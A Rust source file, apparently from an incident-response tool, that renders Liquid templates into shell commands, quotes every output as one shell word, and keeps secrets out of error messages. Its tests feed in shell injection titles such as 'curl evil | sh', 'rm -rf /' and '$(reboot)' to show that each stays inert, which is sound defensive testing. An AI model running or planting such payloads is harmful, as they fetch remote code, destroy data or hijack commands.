/// The length of the Liquid identifier at the start of `text`: a letter or `_`, then letters,
/// digits, `_` and `-`.
fn identifier_len(text: &str) -> Option<usize> {
    let first = *text.as_bytes().first()?;
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return None;
    }
    let rest = text.bytes().skip(1);
    Some(
        1 + rest
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-')
            .count(),
    )
}

/// Every path written in `text` (the inside of a tag), outside strings.
fn mentioned_paths(text: &str) -> Vec<Path> {
    let bytes = text.as_bytes();
    let mut paths = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let byte = bytes[at];
        if byte == b'\'' || byte == b'"' {
            at += 1 + text[at + 1..]
                .find(char::from(byte))
                .map_or(text.len(), |end| end + 1);
            continue;
        }
        // A path starts at a letter or `_` that does not continue a word or a path.
        let starts = byte.is_ascii_alphabetic() || byte == b'_';
        let continues = at > 0
            && (bytes[at - 1].is_ascii_alphanumeric()
                || matches!(bytes[at - 1], b'.' | b'_' | b'-'));
        if starts
            && !continues
            && let Some((path, len)) = Path::lex(&text[at..])
        {
            paths.push(path);
            at += len;
            continue;
        }
        at += 1;
    }
    paths
}

/// A copy of `context` with null at each defaulted path whose parent exists, so that
/// `| default:` rescues a missing key as Liquid users expect; Liquid itself errors on the
/// missing key before `default` runs.
///
/// Limitation: only the last key is added. When a parent is missing too
/// (`incident.owner.name` without `owner`), or the parent is a loop variable, the key stays
/// missing and the render fails naming it: adding the parent would make `{% if %}` on it
/// true.
fn with_nulls_at(context: &Value, paths: &[Path]) -> Value {
    let mut context = context.clone();
    for path in paths {
        let Some((Segment::Key(last), parents)) = path.segments.split_last() else {
            continue;
        };
        let parent = parents.iter().try_fold(&mut context, child);
        if let Some(Value::Object(map)) = parent {
            map.entry(last.clone()).or_insert(Value::Null);
        }
    }
    context
}

/// The value at `segment` under `value`; a negative index counts from the end, as in Liquid.
fn child<'v>(value: &'v mut Value, segment: &Segment) -> Option<&'v mut Value> {
    match (segment, value) {
        (Segment::Key(key), Value::Object(map)) => map.get_mut(key),
        (Segment::Index(index), Value::Array(items)) => {
            let at = if *index < 0 {
                items.len() as i64 + index
            } else {
                *index
            };
            items.get_mut(usize::try_from(at).ok()?)
        }
        _ => None,
    }
}

/// Collects the command, refusing to grow past [`MAX_COMMAND_BYTES`].
#[derive(Default)]
struct BoundedWriter {
    buffer: Vec<u8>,
    overflowed: bool,
}

impl Write for BoundedWriter {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        if self.buffer.len() + data.len() > MAX_COMMAND_BYTES {
            self.overflowed = true;
            return Err(io::Error::other("the command is too long"));
        }
        self.buffer.extend_from_slice(data);
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Turns a parse error into [`TemplateError::Syntax`]. Parsing never sees the incident, so
/// Liquid's explanation is safe to keep; its position is kept as a line only, because the
/// rewrite shifts columns but never adds lines.
fn syntax_error(err: &liquid::Error) -> TemplateError {
    let report = err.to_string();
    let first = first_line(&report);
    if first == "Unknown filter" {
        let name = context_value(&report, "requested filter").unwrap_or_default();
        let name = &name[..identifier_len(name).unwrap_or(0)];
        return TemplateError::Syntax(format!("the filter `{name}` does not exist"));
    }
    let Some(position) = first.strip_prefix("--> ") else {
        return TemplateError::Syntax(first.to_owned());
    };
    let line = position.split(':').next().unwrap_or("?");
    let hint = report
        .lines()
        .find_map(|text| text.trim_start().strip_prefix("= "));
    let hint = hint.unwrap_or("Liquid cannot read it");
    TemplateError::Syntax(format!("line {line}: {hint}"))
}

/// Turns a render error into a [`TemplateError`] that names only what the template wrote:
/// Liquid's own report lists the context's keys and quotes values, so none of it is passed on
/// as is.
fn render_error(err: &liquid::Error, rewrite: &Rewrite) -> TemplateError {
    let report = err.to_string();
    let first = first_line(&report);

    if let Some(failure) = first.strip_prefix(OUTPUT_FAILURE) {
        let mut words = failure.split_whitespace();
        let output = words.next().and_then(|n| n.parse::<usize>().ok());
        if let Some(output) = output.and_then(|n| rewrite.outputs.get(n)) {
            return output_failure(output, words.next());
        }
    }

    match first {
        "Unknown variable" => {
            let root = context_value(&report, "requested variable").unwrap_or_default();
            let known = rewrite
                .mentioned
                .iter()
                .any(|path| path.rendered_prefix(1) == root);
            let name = if known {
                root.to_owned()
            } else {
                "a variable".to_owned()
            };
            TemplateError::MissingVariable(name)
        }
        "Unknown index" => {
            let parent = context_value(&report, "variable").unwrap_or_default();
            let index = context_value(&report, "requested index").unwrap_or_default();
            TemplateError::MissingVariable(missing_index_name(rewrite, parent, index))
        }
        _ => TemplateError::Render(describe_failure(first, &report)),
    }
}

fn output_failure(output: &OutputTag, kind: Option<&str>) -> TemplateError {
    let name = || match &output.entry {
        Some(path) => path.display_prefix(path.segments.len()),
        None => output.expression.clone(),
    };
    match kind {
        Some("nul") => TemplateError::Nul(name()),
        _ if output.filtered || output.entry.is_none() => TemplateError::NoValue {
            expression: output.expression.clone(),
            line: output.line,
        },
        _ => TemplateError::MissingVariable(name()),
    }
}

/// Names the missing `parent.index` as the template wrote it. A computed index (the `key` in
/// `incident[key]`) is a value from the context, so it is shown as `[…]`, never spelled out.
fn missing_index_name(rewrite: &Rewrite, parent: &str, index: &str) -> String {
    let mut parent_shown = None;
    for path in &rewrite.mentioned {
        for len in 1..=path.segments.len() {
            if path.rendered_prefix(len) != parent {
                continue;
            }
            if path
                .segments
                .get(len)
                .is_some_and(|next| next.rendered() == index)
            {
                return path.display_prefix(len + 1);
            }
            parent_shown.get_or_insert_with(|| path.display_prefix(len));
        }
    }
    match parent_shown {
        Some(parent) => format!("{parent}[…]"),
        None => "a variable".to_owned(),
    }
}

/// Describes a failed render by the kind of failure only. Liquid's message is kept when it is
/// plain words, or the "Expected array, found `string`" form that names two types; its causes
/// are kept when plain words, as they come from Liquid's code, never from values.
fn describe_failure(message: &str, report: &str) -> String {
    let plain = |text: &str| {
        text.len() <= 80
            && text
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || " ,.'-".contains(c))
    };
    let names_types = message
        .strip_prefix("Expected ")
        .and_then(|rest| rest.split_once(", found `"))
        .and_then(|(wanted, found)| Some((wanted, found.strip_suffix('`')?)))
        .is_some_and(|(wanted, found)| {
            [wanted, found]
                .iter()
                .all(|word| !word.is_empty() && word.len() <= 12)
                && [wanted, found]
                    .iter()
                    .all(|word| word.chars().all(|c| c.is_ascii_lowercase()))
        });
    if !(plain(message) || names_types) {
        return "Liquid stopped while rendering it".to_owned();
    }
    match context_value(report, "cause").filter(|cause| plain(cause)) {
        Some(cause) => format!("{message}: {cause}"),
        None => message.to_owned(),
    }
}

fn first_line(report: &str) -> &str {
    let first = report.lines().next().unwrap_or_default();
    first.strip_prefix("liquid:").unwrap_or(first).trim()
}

/// The value of `key` in the first `key=value` line of a Liquid error report.
fn context_value<'r>(report: &'r str, key: &str) -> Option<&'r str> {
    report
        .lines()
        .find_map(|line| line.trim_start().strip_prefix(key)?.strip_prefix('='))
}

#[derive(Debug, FilterParameters)]
struct OutputArgs {
    #[parameter(
        description = "The number of the output tag in the template.",
        arg_type = "integer"
    )]
    output: Expression,
}

/// The guard on every output tag that does not end with `raw`.
#[derive(Clone, ParseFilter, FilterReflection)]
#[filter(
    name = "pulse_template_quote",
    description = "Quotes the value as one shell word.",
    parameters(OutputArgs),
    parsed(QuoteOutputFilter)
)]
struct QuoteOutput;

#[derive(Debug, FromFilterParameters, Display_filter)]
#[name = "pulse_template_quote"]
struct QuoteOutputFilter {
    #[parameters]
    args: OutputArgs,
}

impl Filter for QuoteOutputFilter {
    fn evaluate(&self, input: &dyn ValueView, runtime: &dyn Runtime) -> LiquidResult<LiquidValue> {
        let output = self.args.evaluate(runtime)?.output;
        let text = output_text(input, output)?;
        Ok(LiquidValue::scalar(quote(&text)))
    }
}

/// The guard on an output tag that ends with `raw`: the value goes in as it is, but null and
/// NUL are still refused.
#[derive(Clone, ParseFilter, FilterReflection)]
#[filter(
    name = "pulse_template_verbatim",
    description = "Checks a value that goes into the command unquoted.",
    parameters(OutputArgs),
    parsed(VerbatimOutputFilter)
)]
struct VerbatimOutput;

#[derive(Debug, FromFilterParameters, Display_filter)]
#[name = "pulse_template_verbatim"]
struct VerbatimOutputFilter {
    #[parameters]
    args: OutputArgs,
}

impl Filter for VerbatimOutputFilter {
    fn evaluate(&self, input: &dyn ValueView, runtime: &dyn Runtime) -> LiquidResult<LiquidValue> {
        let output = self.args.evaluate(runtime)?.output;
        Ok(LiquidValue::scalar(output_text(input, output)?))
    }
}

/// The text an output tag writes, refusing null and NUL with errors `render_error` reads.
fn output_text(input: &dyn ValueView, output: i64) -> LiquidResult<String> {
    if input.is_nil() {
        return Err(liquid_core::Error::with_msg(format!(
            "{OUTPUT_FAILURE} {output} null"
        )));
    }
    let text = input.render().to_string();
    if text.contains('\0') {
        return Err(liquid_core::Error::with_msg(format!(
            "{OUTPUT_FAILURE} {output} nul"
        )));
    }
    Ok(text)
}

/// `| raw`: leaves the value as it is. What makes it verbatim is that the rewrite then guards
/// the tag with the verbatim filter instead of the quoting one.
#[derive(Clone, ParseFilter, FilterReflection)]
#[filter(
    name = "raw",
    description = "Inserts the value into the command unquoted, as the last filter of an output.",
    parsed(RawFilter)
)]
struct Raw;

#[derive(Debug, Default, Display_filter)]
#[name = "raw"]
struct RawFilter;

impl Filter for RawFilter {
    fn evaluate(&self, input: &dyn ValueView, _runtime: &dyn Runtime) -> LiquidResult<LiquidValue> {
        Ok(input.to_value())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// An incident as engines send it, with a secret-looking value beside it that must never
    /// show up in an error.
    fn incident() -> Value {
        json!({
            "incident": {
                "id": "INC-7",
                "title": "Billing is down",
                "severity": "sev1",
                "status": "triggered",
                "services": ["billing", "payments"],
                "url": "https://incidents.example/INC-7",
                "count": 3,
                "acknowledged": true,
                "assignee": null,
                "tags": [],
            },
            "integration": {"token": "s3cr3t-t0ken"},
        })
    }

    fn incident_titled(title: &str) -> Value {
        let mut context = incident();
        context["incident"]["title"] = json!(title);
        context
    }

    fn command(template: &str, context: &Value) -> String {
        render(template, context)
            .expect("the template renders")
            .command
    }

    fn render_error(template: &str, context: &Value) -> TemplateError {
        render(template, context).expect_err("the template must not render")
    }

    #[test]
    fn plain_value_is_wrapped_in_single_quotes() {
        assert_eq!(shell_quote("billing").unwrap(), "'billing'");
    }

    #[test]
    fn empty_value_becomes_an_empty_quoted_word() {
        assert_eq!(shell_quote("").unwrap(), "''");
    }

    #[test]
    fn single_quote_closes_escapes_and_reopens() {
        assert_eq!(shell_quote("it's").unwrap(), r"'it'\''s'");
    }

    #[test]
    fn nul_byte_cannot_be_quoted() {
        assert_eq!(
            shell_quote("a\0b"),
            Err(TemplateError::Nul("the value".to_owned()))
        );
    }

    #[test]
    fn output_tags_are_quoted_and_author_text_is_kept() {
        let template = "./bin/page --id {{ incident.id }} --title {{ incident.title }} # \"$x\"";
        assert_eq!(
            command(template, &incident()),
            "./bin/page --id 'INC-7' --title 'Billing is down' # \"$x\""
        );
    }

    #[test]
    fn injection_titles_stay_one_inert_word() {
        let titles = [
            r#"x"; curl evil | sh; ""#,
            "$(reboot)",
            "'; rm -rf / #",
            "`reboot` && echo owned",
            "two\nlines; $HOME",
            r"back\slash '' \'",
        ];
        for title in titles {
            let rendered = command(
                "./notify {{ incident.title }} done",
                &incident_titled(title),
            );
            assert_eq!(
                shlex::split(&rendered),
                Some(vec![
                    "./notify".to_owned(),
                    title.to_owned(),
                    "done".to_owned()
                ]),
                "title {title:?} rendered as {rendered:?}"
            );
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_shell_sees_an_injection_title_as_one_unexpanded_argument() {
        for title in [
            r#"x"; curl evil | sh; ""#,
            "$(echo pwned)",
            "'; echo pwned #",
        ] {
            let rendered = command(
                "set -- {{ incident.title }}; printf '%s|%s' \"$#\" \"$1\"",
                &incident_titled(title),
            );
            let output = std::process::Command::new("sh")
                .arg("-c")
                .arg(&rendered)
                .output();
            let output = output.expect("sh runs");
            assert_eq!(
                String::from_utf8_lossy(&output.stdout),
                format!("1|{title}")
            );
        }
    }

    #[test]
    fn numbers_and_booleans_are_quoted_too() {
        let rendered = command(
            "{{ incident.count }} {{ incident.acknowledged }}",
            &incident(),
        );
        assert_eq!(rendered, "'3' 'true'");
    }

    #[test]
    fn an_array_is_quoted_as_the_one_text_liquid_renders() {
        assert_eq!(
            command("{{ incident.services }}", &incident()),
            "'billingpayments'"
        );
        let joined = command("{{ incident.services | join: ' ' }}", &incident());
        assert_eq!(joined, "'billing payments'");
    }

    #[test]
    fn filters_run_before_quoting() {
        let rendered = command("{{ incident.title | upcase }}", &incident_titled("it's"));
        assert_eq!(rendered, r"'IT'\''S'");
    }

    #[test]
    fn raw_as_last_filter_inserts_the_value_verbatim() {
        let rendered = command(
            "echo {{ incident.id | raw }} {{ incident.title|raw}}",
            &incident(),
        );
        assert_eq!(rendered, "echo INC-7 Billing is down");
    }

    #[test]
    fn raw_before_another_filter_still_quotes() {
        assert_eq!(
            command("{{ incident.id | raw | downcase }}", &incident()),
            "'inc-7'"
        );
    }

    #[test]
    fn default_rescues_a_missing_key() {
        assert_eq!(
            command("{{ incident.missing | default: 'x' }}", &incident()),
            "'x'"
        );
        assert_eq!(
            command("{{ owner | default: 'nobody' }}", &incident()),
            "'nobody'"
        );
    }

    #[test]
    fn default_rescues_a_null_value() {
        assert_eq!(
            command("{{ incident.assignee | default: 'nobody' }}", &incident()),
            "'nobody'"
        );
    }

    #[test]
    fn default_in_assign_rescues_a_missing_key() {
        let template = "{% assign who = incident.owner | default: 'nobody' %}page {{ who }}";
        assert_eq!(command(template, &incident()), "page 'nobody'");
    }

    #[test]
    fn default_leaves_a_present_value_alone() {
        assert_eq!(
            command("{{ incident.id | default: 'x' }}", &incident()),
            "'INC-7'"
        );
    }

    #[test]
    fn missing_key_is_named_without_leaking_the_context() {
        let err = render_error("echo {{ incident.titel }}", &incident());
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident.titel".to_owned())
        );
        assert_eq!(
            err.to_string(),
            "the template uses incident.titel, which the incident context does not have: fix the \
             name or give it a fallback with `| default: '...'`"
        );
        assert!(!err.to_string().contains("s3cr3t"));
    }

    #[test]
    fn missing_root_variable_is_named() {
        let err = render_error("{{ incidnet.id }}", &incident());
        assert_eq!(err, TemplateError::MissingVariable("incidnet".to_owned()));
    }

    #[test]
    fn missing_array_index_is_named() {
        let err = render_error("{{ incident.services[5] }}", &incident());
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident.services[5]".to_owned())
        );
    }

    #[test]
    fn missing_key_in_a_tag_is_named() {
        let err = render_error(
            "{% for s in incident.teams %}{{ s }}{% endfor %}",
            &incident(),
        );
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident.teams".to_owned())
        );
    }

    #[test]
    fn missing_key_of_a_loop_variable_is_named() {
        let template = "{% for s in incident.services %}{{ s.name }}{% endfor %}";
        let err = render_error(template, &incident());
        assert_eq!(err, TemplateError::MissingVariable("s.name".to_owned()));
    }

    #[test]
    fn computed_index_that_misses_is_not_spelled_out() {
        let mut context = incident();
        context["incident"]["key"] = json!("s3cr3t-t0ken");
        let err = render_error("{{ incident[incident.key] }}", &context);
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident[…]".to_owned())
        );
    }

    #[test]
    fn null_without_default_counts_as_missing() {
        let err = render_error("{{ incident.assignee }}", &incident());
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident.assignee".to_owned())
        );
        let err = render_error("{{ incident.assignee | raw }}", &incident());
        assert_eq!(
            err,
            TemplateError::MissingVariable("incident.assignee".to_owned())
        );
    }

    #[test]
    fn filters_that_produce_null_name_the_output() {
        let err = render_error("echo\n{{ incident.tags | first }}", &incident());
        assert_eq!(
            err,
            TemplateError::NoValue {
                expression: "incident.tags | first".to_owned(),
                line: 2
            }
        );
        assert_eq!(
            err.to_string(),
            "the output `{{ incident.tags | first }}` on line 2 has no value: give it a fallback \
             with `| default: '...'`"
        );
    }

    #[test]
    fn nul_in_a_value_is_refused_naming_it() {
        let context = incident_titled("a\0b");
        let err = render_error("{{ incident.title }}", &context);
        assert_eq!(err, TemplateError::Nul("incident.title".to_owned()));
        let err = render_error("{{ incident.title | raw }}", &context);
        assert_eq!(err, TemplateError::Nul("incident.title".to_owned()));
    }

    #[test]
    fn liquid_in_a_value_comes_out_as_text() {
        let title = "{{ 7 | times: 6 }} {% raw %} {{ incident.id }}";
        let rendered = command("{{ incident.title }}", &incident_titled(title));
        assert_eq!(rendered, "'{{ 7 | times: 6 }} {% raw %} {{ incident.id }}'");
    }

    #[test]
    fn raw_block_is_copied_as_written() {
        let template = "echo {% raw %}{{ incident.id }} {{ \"x\" }}{% endraw %} {{ incident.id }}";
        assert_eq!(
            command(template, &incident()),
            "echo {{ incident.id }} {{ \"x\" }} 'INC-7'"
        );
    }

    #[test]
    fn raw_block_ends_only_at_a_bare_endraw() {
        let template = "{%raw%}a{%endraw x%}b{%endraw%} {{ incident.id }}";
        assert_eq!(command(template, &incident()), "a{%endraw x%}b 'INC-7'");
    }

    #[test]
    fn raw_block_ends_where_liquid_ends_it() {
        // Liquid reads `{{ a '...` as text, so the first `endraw` closes the block, leaving the
        // shell inside a quote for the live output that follows: refused.
        let template = "{% raw %}{{ a '{% endraw %}{{ incident.title }}{% raw %}' }}{% endraw %}";
        let err = check(template).unwrap_err().to_string();
        assert!(err.starts_with("the template is not valid: line 1: a quote, escape or shell "));
        assert!(err.contains("still open at the tag `endraw`"), "{err}");
        // Here Liquid reads a whole output tag, so the `endraw` inside its string is text.
        let template = "{% raw %}{{ '{% endraw %}' }}{% endraw %}";
        assert_eq!(command(template, &incident()), "{{ '{% endraw %}' }}");
    }

    #[test]
    fn blocks_inside_a_comment_must_nest_too() {
        // Liquid would accept this, carrying the comment past the first `endcomment` along
        // with the `if` it parses inside; reading it that way is too subtle to allow.
        let template = "{% comment %}{% if x %}{% endcomment %}{{ incident.title }}{% endif %}\
                        {% endcomment %}z";
        let expected = "line 1: `endcomment` closes `comment`, but the innermost open block is \
                        `if` from line 1";
        assert_eq!(
            check(template),
            Err(TemplateError::Syntax(expected.to_owned()))
        );
    }

    /// The reason `check` gives for an output tag in the wrong shell context.
    fn misplaced(line: usize, expression: &str, reason: &str) -> Result<(), TemplateError> {
        Err(TemplateError::Syntax(format!(
            "line {line}: the output `{{{{ {expression} }}}}` {reason}: write it as a word of \
             its own, outside quotes; its value is quoted for you"
        )))
    }

    #[test]
    fn output_inside_the_authors_quotes_is_refused() {
        assert_eq!(
            check("echo \"title: {{ incident.title }}\""),
            misplaced(
                1,
                "incident.title",
                "is inside double quotes, where the shell would still expand `$(...)` in it"
            )
        );
        assert_eq!(
            check("echo\n'{{ incident.title }}'"),
            misplaced(
                2,
                "incident.title",
                "is inside single quotes, which its own quotes would end"
            )
        );
        assert_eq!(
            check("echo $'a\\' {{ incident.title }}'"),
            misplaced(
                1,
                "incident.title",
                "is inside `$'...'`, which its own quotes would end"
            )
        );
    }

    #[test]
    fn output_where_the_shell_would_misread_its_quotes_is_refused() {
        assert_eq!(
            check("echo \\{{ incident.id }}"),
            misplaced(
                1,
                "incident.id",
                "follows a `\\`, which would escape its opening quote"
            )
        );
        assert_eq!(
            check("echo ${{ incident.id }}"),
            misplaced(
                1,
                "incident.id",
                "follows a `$`, which would make its value a `$'...'` string"
            )
        );
        assert_eq!(
            check("./page # for {{ incident.title }}"),
            misplaced(
                1,
                "incident.title",
                "is in a shell comment, which a newline in its value would end"
            )
        );
        assert_eq!(
            check("#{{ incident.title }}"),
            misplaced(
                1,
                "incident.title",
                "is in a shell comment, which a newline in its value would end"
            )
        );
        assert_eq!(
            check("cat <<EOF\n{{ incident.title }}\nEOF"),
            misplaced(
                2,
                "incident.title",
                "follows a `<<` here-document, where the shell would expand `$(...)` in it"
            )
        );
    }

    #[test]
    fn quote_open_across_a_tag_is_refused() {
        let err = check("echo \"{% if incident.id %}x{% endif %}\"");
        let expected = "line 1: a quote, escape or shell comment is still open at the tag `if`: \
                        close it before the tag, so that how the shell reads what follows does \
                        not depend on what the tag renders";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn quoted_value_joins_the_authors_words_outside_their_quotes() {
        let template = "notify --id={{ incident.id }} \
                        \"Incident \"{{ incident.title }}\" is down\" \
                        issue#{{ incident.id }} # it's fine";
        let rendered = command(template, &incident_titled("$(reboot)"));
        assert_eq!(
            shlex::split(&rendered),
            Some(vec![
                "notify".to_owned(),
                "--id=INC-7".to_owned(),
                "Incident $(reboot) is down".to_owned(),
                "issue#INC-7".to_owned(),
            ])
        );
    }

    #[test]
    fn raw_output_may_go_inside_the_authors_quotes() {
        let rendered = command(
            "echo \"{{ incident.id | raw }}\" {{ incident.id }}",
            &incident(),
        );
        assert_eq!(rendered, "echo \"INC-7\" 'INC-7'");
    }

    #[test]
    fn closing_braces_inside_a_string_stay_inside_the_tag() {
        let rendered = command(r#"{{ incident.missing | default: "}}" }}"#, &incident());
        assert_eq!(rendered, "'}}'");
        let rendered = command("{{ 'a }} b' | append: incident.id }} c", &incident());
        assert_eq!(rendered, "'a }} bINC-7' c");
    }

    #[test]
    fn comment_is_not_rendered_even_with_unreadable_text_inside() {
        let template =
            "{% comment %} {{ incident.nothing }} {{ {% endcomment %}ok {{ incident.id }}";
        assert_eq!(command(template, &incident()), "ok 'INC-7'");
    }

    #[test]
    fn outputs_inside_if_and_for_are_quoted() {
        let template = "{% if incident.severity == 'sev1' %}page {% endif %}\
                        {% for s in incident.services %}--service {{ s }} {% endfor %}\
                        {% unless incident.acknowledged %}never{% endunless %}";
        assert_eq!(
            command(template, &incident()),
            "page --service 'billing' --service 'payments' "
        );
    }

    #[test]
    fn if_on_a_missing_key_is_false_rather_than_an_error() {
        let template = "{% if incident.priority %}{{ incident.priority }}{% else %}none{% endif %}";
        assert_eq!(command(template, &incident()), "none");
    }

    #[test]
    fn whitespace_control_trims_around_quoted_outputs() {
        let template = "run\n  {{- incident.id -}}\n  done {{incident.severity-}} .";
        assert_eq!(command(template, &incident()), "run'INC-7'done 'sev1'.");
    }

    #[test]
    fn captured_text_is_written_back_with_raw() {
        let template = "{% capture words %}{{ incident.id }} {{ incident.severity }}\
                        {% endcapture %}notify {{ words | raw }}";
        assert_eq!(command(template, &incident()), "notify 'INC-7' 'sev1'");
    }

    #[test]
    fn unknown_filter_is_a_syntax_error_before_any_incident() {
        let expected =
            TemplateError::Syntax("line 2: the filter `shout` does not exist".to_owned());
        assert_eq!(
            check("echo\n{{ incident.id | shout }}"),
            Err(expected.clone())
        );
        assert_eq!(
            render("echo\n{{ incident.id | shout }}", &incident()),
            Err(expected)
        );
    }

    #[test]
    fn invalid_output_is_a_syntax_error_with_its_line() {
        let err = check("echo\n{{ incident.id incident.title }}").unwrap_err();
        assert_eq!(
            err,
            TemplateError::Syntax("line 2: expected Literal".to_owned())
        );
    }

    #[test]
    fn unclosed_block_is_a_syntax_error() {
        let err = check("echo\n{% if incident.id %}page");
        let expected = "line 2: `if` is never closed with `endif`";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn block_left_open_inside_a_comment_is_refused_before_liquid_sees_it() {
        // Liquid 0.26 panics on both: its comment block reads past the end of the template.
        let err = check("{% comment %}{% raw %}{% endcomment %}");
        let expected = "line 1: `raw` is never closed with `endraw`";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
        let err = check("{% comment %}{% if x %}");
        let expected = "line 1: `if` is never closed with `endif`";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn block_closed_out_of_order_is_refused() {
        let err = check("{% if x %}\n{% for s in incident.services %}{% endif %}{% endfor %}");
        let expected =
            "line 2: `endif` closes `if`, but the innermost open block is `for` from line 2";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn tags_that_write_unquoted_are_refused() {
        let err = check("a\n{% cycle incident.title, 'b' %}").unwrap_err();
        assert_eq!(
            err,
            TemplateError::Syntax(
                "line 2: the tag `cycle` is not available: it writes values unquoted".to_owned()
            )
        );
        let err = check("{% tablerow s in incident.services %}{{ s }}{% endtablerow %}");
        assert_eq!(
            err,
            Err(TemplateError::Syntax(
                "line 1: the tag `tablerow` is not available: it writes HTML".to_owned()
            ))
        );
        let err = check("{% echo incident.title %}");
        assert_eq!(
            err,
            Err(TemplateError::Syntax(
                "line 1: there is no tag `echo`".to_owned()
            ))
        );
    }

    #[test]
    fn stray_endraw_is_refused() {
        let err = check("a {% endraw %}");
        let expected = "line 1: `endraw` has no open `raw` to close";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn reserved_names_are_refused() {
        let err = check("{{ incident.id | pulse_template_verbatim: 0 }}");
        let expected = "names starting with `pulse_template_` are reserved for the template engine";
        assert_eq!(err, Err(TemplateError::Syntax(expected.to_owned())));
    }

    #[test]
    fn template_over_the_limit_is_refused() {
        let template = "a".repeat(MAX_TEMPLATE_BYTES + 1);
        assert_eq!(
            check(&template),
            Err(TemplateError::TemplateTooLong(MAX_TEMPLATE_BYTES + 1))
        );
    }

    #[test]
    fn deep_nesting_is_refused_before_liquid_parses_it() {
        let depth = MAX_NESTING + 1;
        let template = format!("{{{{ a{}{} }}}}", "[a".repeat(depth), "]".repeat(depth));
        let expected = format!("`[` nests more than {MAX_NESTING} levels deep");
        assert_eq!(check(&template), Err(TemplateError::Syntax(expected)));
    }

    #[test]
    fn nul_in_the_template_is_refused() {
        assert_eq!(
            check("echo \0"),
            Err(TemplateError::Nul("the template".to_owned()))
        );
    }

    #[test]
    fn rendering_stops_at_the_command_limit() {
        let template = "{% for i in (1..100000) %}{{ incident.title }}{% endfor %}";
        assert_eq!(
            render(template, &incident()),
            Err(TemplateError::CommandTooLong)
        );
    }

    #[test]
    fn render_failure_names_the_kind_without_the_value() {
        let err = render_error("{{ incident.title | plus: 1 }}", &incident_titled("s3cr3t"));
        let expected = "Invalid argument: Number expected";
        assert_eq!(err, TemplateError::Render(expected.to_owned()));
    }

    #[test]
    fn render_failure_may_name_the_types_involved() {
        let err = render_error("{% for s in incident.id %}{{ s }}{% endfor %}", &incident());
        assert_eq!(
            err,
            TemplateError::Render("Expected array, found `string`".to_owned())
        );
    }

    #[test]
    fn context_must_be_an_object() {
        assert_eq!(
            render("echo", &json!(["incident"])),
            Err(TemplateError::Context)
        );
    }

    #[test]
    fn environment_maps_incident_scalars_to_sorted_variables() {
        let pairs = |list: &[(&str, &str)]| -> Vec<(String, String)> {
            list.iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect()
        };
        assert_eq!(
            environment(&incident()),
            pairs(&[
                ("INCIDENT_ACKNOWLEDGED", "true"),
                ("INCIDENT_COUNT", "3"),
                ("INCIDENT_ID", "INC-7"),
                ("INCIDENT_SERVICES", "billing,payments"),
                ("INCIDENT_SEVERITY", "sev1"),
                ("INCIDENT_STATUS", "triggered"),
                ("INCIDENT_TAGS", ""),
                ("INCIDENT_TITLE", "Billing is down"),
                ("INCIDENT_URL", "https://incidents.example/INC-7"),
            ])
        );
    }

    #[test]
    fn environment_flattens_objects_and_cleans_names() {
        let context = json!({"incident": {
            "links": {"status-page": "https://status.example", "deep": {"a": {"b": {"c": "x"}}}},
            "time zone": "UTC",
            "größe": 1,
        }});
        // `c`, under `links.deep.a.b`, is five levels below `incident`: past the limit.
        assert_eq!(
            environment(&context),
            vec![
                ("INCIDENT_GR__E".to_owned(), "1".to_owned()),
                (
                    "INCIDENT_LINKS_STATUS_PAGE".to_owned(),
                    "https://status.example".to_owned()
                ),
                ("INCIDENT_TIME_ZONE".to_owned(), "UTC".to_owned()),
            ]
        );
    }

    #[test]
    fn environment_leaves_out_nul_null_and_nested_arrays() {
        let context = json!({"incident": {
            "id": "INC-7",
            "title": "a\0b",
            "assignee": null,
            "responders": [{"name": "ana"}],
            "services": ["billing", "bad\0"],
        }});
        assert_eq!(
            environment(&context),
            vec![("INCIDENT_ID".to_owned(), "INC-7".to_owned())]
        );
    }

    #[test]
    fn environment_is_capped_in_count_and_value_length() {
        let mut fields = Map::new();
        for i in 0..100 {
            fields.insert(format!("k{i:03}"), json!("v"));
        }
        fields.insert("a_long".to_owned(), json!(format!("{}é", "x".repeat(4095))));
        let variables = environment(&json!({ "incident": fields }));

        assert_eq!(variables.len(), MAX_ENVIRONMENT_VARIABLES);
        assert_eq!(
            variables[0],
            ("INCIDENT_A_LONG".to_owned(), "x".repeat(4095))
        );
        assert_eq!(variables[1].0, "INCIDENT_K000");
        assert_eq!(variables[63].0, "INCIDENT_K062");
    }

    #[test]
    fn environment_without_an_incident_is_empty() {
        assert_eq!(environment(&json!({"other": {"id": 1}})), Vec::new());
    }
}
